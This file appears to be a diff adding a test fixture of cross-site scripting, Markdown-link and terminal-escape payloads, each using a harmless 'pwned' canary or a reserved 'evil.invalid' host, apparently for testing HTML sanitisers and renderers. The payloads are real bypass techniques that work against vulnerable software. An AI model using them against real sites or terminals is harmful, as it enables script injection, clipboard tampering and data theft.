@@ -1,0 +1,133 @@
+// Texts that want to run, load or lie. Each tells `globalThis.pwned` if it ever runs, and names a host that nobody may reach.
+
+const RUN = "globalThis.pwned=1";
+const AWAY = "http://evil.invalid/x";
+
+/// As HTML, in the ways that sanitisers have been fooled.
+const HTML = [
+  `<script>${RUN}</script>`,
+  `<SCRIPT SRC=${AWAY}></SCRIPT>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<script/x>${RUN}</script >`,
+  `<script\n>${RUN}</script\n>`,
+  `"><script>${RUN}</script>`,
+  `'><img src=x onerror=${RUN}>`,
+  `<img src=x onerror="${RUN}">`,
+  `<img src=x onerror=${RUN}//`,
+  `<img/src=x/onerror=${RUN}>`,
+  `<img src="x\` \`<script>${RUN}</script>">`,
+  `<img srcset="${AWAY} 1x" onerror=${RUN}>`,
+  `<svg onload=${RUN}>`,
+  `<svg/onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
+  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
+  `<math><mtext></p><script>${RUN}</script></mtext></math>`,
+  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${RUN.replace("globalThis.", "")}</script>"></iframe>`,
+  `<iframe src=${AWAY}></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<embed src="${AWAY}">`,
+  `<link rel=stylesheet href=${AWAY}>`,
+  `<link rel=import href=${AWAY}>`,
+  `<style>@import '${AWAY}';</style>`,
+  `<style>*{background:url(${AWAY})}</style>`,
+  `<div style="background:url(${AWAY})">x</div>`,
+  `<div style="width:expression(${RUN})">x</div>`,
+  `<base href="${AWAY}">`,
+  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
+  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
+  `<form action=${AWAY}><input autofocus onfocus=${RUN}></form>`,
+  `<form><button formaction="javascript:${RUN}">x</button></form>`,
+  `<input onfocus=${RUN} autofocus>`,
+  `<select onfocus=${RUN} autofocus></select>`,
+  `<textarea onfocus=${RUN} autofocus></textarea>`,
+  `<keygen onfocus=${RUN} autofocus>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<video poster=${AWAY} src=x onerror=${RUN}></video>`,
+  `<audio src=x onerror=${RUN}>`,
+  `<body onload=${RUN}>`,
+  `<body onpageshow=${RUN}>`,
+  `<details open ontoggle=${RUN}>x</details>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<a href="javascript:${RUN}">x</a>`,
+  `<a href=" javascript:${RUN}">x</a>`,
+  `<a href="java\tscript:${RUN}">x</a>`,
+  `<a href="&#106;avascript:${RUN}">x</a>`,
+  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
+  `<a href="vbscript:${RUN}">x</a>`,
+  `<a href=x onmouseover=${RUN}>x</a>`,
+  `<p onpointerenter=${RUN}>x</p>`,
+  `<template><script>${RUN}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<title></title><script>${RUN}</script>`,
+  `<textarea></textarea><script>${RUN}</script>`,
+  `<!--><script>${RUN}</script>-->`,
+  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
+  `<?xml version="1.0"?><script>${RUN}</script>`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `<x onclick=${RUN} autofocus tabindex=1 onfocus=${RUN}>x</x>`,
+  `<b onanimationend=${RUN} style="animation:rise 1ms">x</b>`,
+  `<portal src="javascript:${RUN}">`,
+  `<dialog open onclose=${RUN}>x</dialog>`,
+  `<slot onslotchange=${RUN}></slot>`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${${RUN}}`,
+  `"-${RUN}-"`,
+  `';${RUN};'`,
+  `\`;${RUN};\``,
+  `</textarea><script>${RUN}</script>`,
+  `</title><svg onload=${RUN}>`,
+];
+
+/// As Markdown.
+const MARKDOWN = [
+  `[x](javascript:${RUN})`,
+  `[x](JaVaScRiPt:${RUN})`,
+  `[x](java&#10;script:${RUN})`,
+  `[x](data:text/html,<script>${RUN}</script>)`,
+  `[x](vbscript:${RUN})`,
+  `[x](<javascript:${RUN}>)`,
+  `[x]: javascript:${RUN}\n\n[x]`,
+  `![x](${AWAY}.png)`,
+  `![x](javascript:${RUN})`,
+  `![x](x.png "onerror=${RUN}")`,
+  `![x](//evil.invalid/x.png)`,
+  `![x](../../../etc/passwd.png)`,
+  `<javascript:${RUN}>`,
+  `<http://evil.invalid/"onmouseover="${RUN}>`,
+  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
+  `| <img src=x onerror=${RUN}> |\n|---|\n| <script>${RUN}</script> |`,
+  `**<img src=x onerror=${RUN}>**`,
+  `# <svg onload=${RUN}>`,
+  `> <iframe src="javascript:${RUN}"></iframe>`,
+  `- [ ] <input onfocus=${RUN} autofocus>`,
+];
+
+/// As a terminal would be spoken to by a hostile program.
+const TERMINAL = [
+  "\\033]52;c;cHduZWQ=\\007",
+  "\\033]0;pwned\\007",
+  "\\033]2;pwned\\033\\\\",
+  "\\033]8;;javascript:globalThis.pwned=1\\033\\\\click\\033]8;;\\033\\\\",
+  "\\033]8;;data:text/html,x\\033\\\\click\\033]8;;\\033\\\\",
+  "\\033[21t",
+  "\\033]1337;File=inline=1:PHN2Zz4=\\007",
+  "\\033P+q544e\\033\\\\",
+  "\\033c\\033[2J",
+  "\\033[?1049h\\033[?1049l",
+];
+
+export const documents = [...HTML, ...MARKDOWN];
+/// A title is one line.
+export const titles = documents.map((payload) => payload.replace(/[\n\t]/g, " ")).filter((payload) => payload.length <= 120);
+/// A file's name is one component.
+export const names = titles.filter((payload) => !payload.includes("/")).map((payload) => payload.slice(0, 200));
+export const terminal = TERMINAL;
+/// Shows that the alarm works: this, if it ran, would ring it.
+export const control = `<img src=x onerror="${RUN}">`;
